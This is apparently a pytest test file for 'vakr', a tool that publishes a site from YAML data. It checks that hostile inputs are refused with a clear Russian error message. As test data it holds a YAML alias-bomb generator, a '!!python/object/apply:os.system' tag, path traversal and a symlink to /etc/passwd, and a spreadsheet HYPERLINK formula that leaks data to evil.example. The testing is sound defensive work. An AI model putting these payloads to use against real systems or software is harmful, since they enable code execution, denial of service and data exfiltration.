"""Damaged or hostile data files (issue «Trust the input», findings 1, 2 and 4): each is
refused by `vakr check` and `vakr build` with one Russian message naming the file, the line
and what to do — never a traceback, a hang, a crash or gigabytes of memory — and the last
good site is left exactly as it was."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from test_validation import DATA
from vakr.cli import CHECK_FAILED
from vakr.ingest.yamlsource import MAX_DEPTH, MAX_DIGITS, MAX_REPEATED

CYCLE, PLAN, MONITORING, ORGS = "2026/cycle.yml", "2026/plan.yml", "2026/monitoring.yml", "organizations.yml"


def _alias_bomb(levels: int) -> str:
    """«Billion laughs»: each list names the one before nine times; 541 bytes at 8 levels."""
    lines, before = ["bomb:", "  a: &a [x, x, x, x, x, x, x, x, x]"], "a"
    for level in range(levels):
        lines.append(f"  b{level}: &b{level} [{', '.join([f'*{before}'] * 9)}]")
        before = f"b{level}"
    return "\n".join(lines) + "\n"


@dataclass(frozen=True)
class Hostile:
    id: str
    file: str
    edit: Callable[[str], str]
    message: str  # the whole line the officer reads, after «  data/<file>, »

    def param(self):  # type: ignore[no-untyped-def]
        return pytest.param(self, id=self.id)


TOO_DEEP = (f"слишком глубокая вложенность (больше {MAX_DEPTH} уровней); проверьте скобки «[» и «{{» "
            "и отступы: данные сайта так глубоко не вкладываются")
INDENT = "строка сдвинута не так, как соседние строки того же уровня; выровняйте её отступ пробелами по строкам выше"

CASES = [
    Hostile("alias-bomb-9-levels", CYCLE, lambda t: t + _alias_bomb(9),
            f"строка 7: ссылки «*…» на метки «&…» повторяют данные слишком много раз (больше {MAX_REPEATED}); "
            "уберите вложенные ссылки, напишите данные прямо"),
    Hostile("recursive-alias", CYCLE, lambda t: t + "loop: &loop [*loop]\n", f"строка 6: {TOO_DEEP}"),
    Hostile("nested-1000-flow", CYCLE, lambda t: t + "x: " + "[" * 1000 + "]" * 1000 + "\n", f"строка 6: {TOO_DEEP}"),
    Hostile("nested-50000-flow", CYCLE, lambda t: t + "x: " + "[" * 50_000 + "]" * 50_000 + "\n", f"строка 6: {TOO_DEEP}"),
    Hostile("nested-1200-block", CYCLE,
            lambda t: t + "x:\n" + "".join("  " * i + "-\n" for i in range(1, 1200)) + "  " * 1200 + "a\n",
            f"строка {6 + MAX_DEPTH}: {TOO_DEEP}"),
    Hostile("nul-byte", CYCLE, lambda t: t.replace("period", "per\x00iod"),
            "строка 3: в файле нулевой байт: файл повреждён или сохранён не как текст; восстановите его из копии "
            "или откройте в редакторе и удалите этот символ"),
    Hostile("control-character", CYCLE, lambda t: t.replace("period", "per\x07iod"),
            "строка 3: недопустимый невидимый символ (код U+0007), обычно попадает при копировании; удалите его"),
    Hostile("python-tag", CYCLE, lambda t: t + "x: !!python/object/apply:os.system ['echo pwned']\n",
            "строка 6: пометка «!!python/object/apply:os.system» не допускается: в данных только текст, числа, "
            "списки и поля; удалите «!!python/object/apply:os.system» перед значением"),
    Hostile("huge-plan-item-number", PLAN, lambda t: t.replace("\n- number: 4\n", "\n- number: " + "1" + "0" * 40 + "\n"),
            f"строка 62, поле «items[4].number»: слишком большое число; проверьте его: допустимо не больше "
            f"{MAX_DIGITS} цифр"),
    Hostile("report-added-under-empty-braces", MONITORING,
            lambda t: t.replace("\nplan:\n", "\nplan: {}\n  17:\n  - date: 20.06.2026\n    status: done\n"),
            "строка 34: ошибка синтаксиса YAML: под строкой «plan: {}» добавлены строки, но «{}» значит «пусто»; "
            "удалите {} после plan:"),
    Hostile("list-item-indented-less", PLAN, lambda t: t.replace("\n- number: 4\n", "\n - number: 4\n", 1),
            f"строка 62: ошибка синтаксиса YAML: {INDENT}"),
    Hostile("organization-id-doubled", ORGS, lambda t: t.replace("id: mfo-almaty", "id: almaty-finance"),
            "строка 20, поле «organizations[3].id»: повторяющийся id «almaty-finance»: id организации должен "
            "быть уникальным"),
]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(DATA, tmp_path / "data")
    return tmp_path


@pytest.fixture
def published(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A last good site standing in site/ (the command must not open it)."""
    site = tmp_path / "site"
    (site / "2026").mkdir(parents=True)
    (site / "index.html").write_text("<h1>ВАКР</h1>", encoding="utf-8")
    (site / "2026" / "plan.csv").write_bytes(b"number\r\n1\r\n")
    return site, _digest(site)


def _digest(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _vakr(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The command as the officer runs it (a crash of the interpreter shows as its exit code)."""
    return subprocess.run([sys.executable, "-m", "vakr", "--root", str(root), *args], capture_output=True,
                          text=True, check=False, timeout=120, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


def _refused(result: subprocess.CompletedProcess[str], line: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    head = f"Ошибки в данных (1):\n  {line}\n"
    command = result.args[result.args.index("--root") + 2]
    tail = CHECK_FAILED if command == "check" else f"Сайт не собран; {result.args[-1]} не изменён."
    assert result.stderr == f"{head}{tail}\n", result.stderr


@pytest.mark.parametrize("case", [c.param() for c in CASES])
def test_hostile_file_is_refused_with_one_message(project: Path, published: tuple[Path, dict[str, str]],
                                                  case: Hostile) -> None:
    path = project / "data" / case.file
    path.write_text(case.edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    before = path.read_bytes()

    _refused(_vakr(project, "check"), f"data/{case.file}, {case.message}")
    site, good = published
    _refused(_vakr(project, "build", "--site-dir", str(site)), f"data/{case.file}, {case.message}")
    assert _digest(site) == good
    assert path.read_bytes() == before
    assert sorted(p.name for p in project.iterdir()) == ["data", "site"], "a build folder was left behind"


def test_a_folder_in_place_of_a_data_file(project: Path) -> None:
    plan = project / "data" / PLAN
    plan.unlink()
    plan.mkdir()
    _refused(_vakr(project, "check"), f"data/{PLAN}, строка 1: на месте файла папка с тем же именем; "
                                      "переименуйте или удалите папку и положите файл")


def test_a_data_file_linked_from_outside_is_not_read(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    """The linked file's lines must not be quoted (it may be any file of the machine)."""
    outside = tmp_path_factory.mktemp("outside") / "secret.yml"
    outside.write_text("period: секрет\n", encoding="utf-8")
    cycle = project / "data" / CYCLE
    cycle.unlink()
    cycle.symlink_to(outside)
    result = _vakr(project, "check")
    _refused(result, f"data/{CYCLE}, строка 1: файл — ссылка на файл вне папки data/; положите сам файл в data/ "
                     "вместо ссылки")
    assert "секрет" not in result.stderr


# --- files the site publishes as they are (finding 2) -------------------------------------

REPORT = "  schedule_item: 9\n"
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


def _report_file(project: Path, file: str) -> None:
    publications = project / "data" / "2026" / "publications.yml"
    text = publications.read_text(encoding="utf-8")
    publications.write_text(text.replace(REPORT, f"{REPORT}  signed: 12.05.2026\n  file: {file}\n", 1), encoding="utf-8")


@pytest.mark.parametrize(("file", "problem"), [
    ("/etc/hostname", "путь «/etc/hostname» ведёт за пределы папки docs/; укажите путь внутри docs/, например "
                      "documents/2026/справка.pdf"),
    ("../mkdocs.yml", "путь «../mkdocs.yml» ведёт за пределы папки docs/; укажите путь внутри docs/, например "
                      "documents/2026/справка.pdf"),
    ("index.md", "ожидался файл: PDF (имя на «.pdf»), указан «index.md»"),
    ("documents/2026/fake.pdf", "файл назван как PDF, но по содержимому им не является; положите настоящий PDF "
                                "(сохраните документ в этом формате заново)"),
])
def test_report_file_outside_docs_or_not_a_pdf_is_refused(project: Path, file: str, problem: str) -> None:
    (project / "docs" / "documents" / "2026").mkdir(parents=True)
    (project / "docs" / "index.md").write_text("# ВАКР\n", encoding="utf-8")
    if file.endswith("fake.pdf"):
        (project / "docs" / file).write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    _report_file(project, file)
    line = (project / "data/2026/publications.yml").read_text(encoding="utf-8").index(f"  file: {file}")
    number = (project / "data/2026/publications.yml").read_text(encoding="utf-8")[:line].count("\n") + 1
    errors = [f"data/2026/publications.yml, строка {number}, поле «report.file»: {problem}"]
    if file.endswith("fake.pdf"):  # docs/ itself is checked too
        errors.append(f"docs/documents/2026/fake.pdf: {problem}")
    result = _vakr(project, "check")
    assert result.returncode == 1
    assert result.stderr.splitlines()[1:] == [*(f"  {e}" for e in errors), CHECK_FAILED], result.stderr


def test_a_pdf_linked_to_a_system_file_is_not_published(project: Path, published: tuple[Path, dict[str, str]]) -> None:
    """docs/documents/2026/analytical-report.pdf → /etc/passwd, named by the report: refused by
    both checks, the build stops before MkDocs copies anything."""
    folder = project / "docs" / "documents" / "2026"
    folder.mkdir(parents=True)
    (folder / "analytical-report.pdf").symlink_to("/etc/passwd")
    _report_file(project, "documents/2026/analytical-report.pdf")
    site, good = published
    result = _vakr(project, "build", "--site-dir", str(site))
    assert result.returncode == 1
    outside = "путь «documents/2026/analytical-report.pdf» ведёт за пределы папки docs/"
    assert f"поле «report.file»: {outside}" in result.stderr
    assert ("  docs/documents/2026/analytical-report.pdf: ссылка на файл или папку вне папки docs/ — на сайт "
            "попало бы содержимое компьютера; положите в docs/ сам файл вместо ссылки\n") in result.stderr
    assert "root:" not in result.stdout + result.stderr
    assert _digest(site) == good


def test_a_real_pdf_inside_docs_is_accepted(project: Path) -> None:
    folder = project / "docs" / "documents" / "2026"
    folder.mkdir(parents=True)
    (folder / "analytical-report.pdf").write_bytes(PDF)
    (folder / "same.pdf").symlink_to("analytical-report.pdf")  # a link inside docs/ is fine
    _report_file(project, "documents/2026/analytical-report.pdf")
    result = _vakr(project, "check")
    assert result.returncode == 0, result.stderr


# --- spreadsheet formulas in the CSV downloads (finding 3) ---------------------------------

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(project: Path, start: str) -> None:
    from vakr.ingest.load import load_site
    from vakr.publish.opendata import PLAN_FIELDS, csv_bytes, json_bytes, plan_records

    plan = project / "data" / PLAN
    text = plan.read_text(encoding="utf-8")
    formula = start + LEAK[1:]
    plan.write_text(re.sub(r"  measure:\n    ru: .*\n", lambda _: f"  measure:\n    ru: {json_string(formula)}\n"
                           f"    kk: {json_string(formula)}\n", text, count=1), encoding="utf-8")
    site = load_site(project / "data")
    cycle = site.cycle("2026")
    raw = csv_bytes(plan_records(cycle), PLAN_FIELDS).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert rows[0]["measure_ru"] == rows[0]["measure_kk"] == "'" + formula
    assert '"' + ("'" + formula).replace('"', '""') + '"' in raw  # quoted as well, as OWASP recommends
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
               if value != "-")  # the documents' «no deadline» is left as it is
    assert json.loads(json_bytes(cycle, site))["plan"][0]["measure_ru"] == formula  # JSON keeps the text


def json_string(value: str) -> str:
    """A YAML double-quoted scalar (JSON is YAML) holding `value` exactly."""
    return json.dumps(value, ensure_ascii=False)


def test_data_page_says_how_the_files_are_written(site: Path) -> None:
    for prefix, words in (("", "записан с апострофом «'» в начале"), ("kk/", "басында «'» апострофымен жазылған")):
        page = BeautifulSoup((site / prefix / "2026" / "data" / "index.html").read_bytes(), "html.parser")
        text = " ".join(page.get_text().split())
        assert "UTF-8" in text and words in text
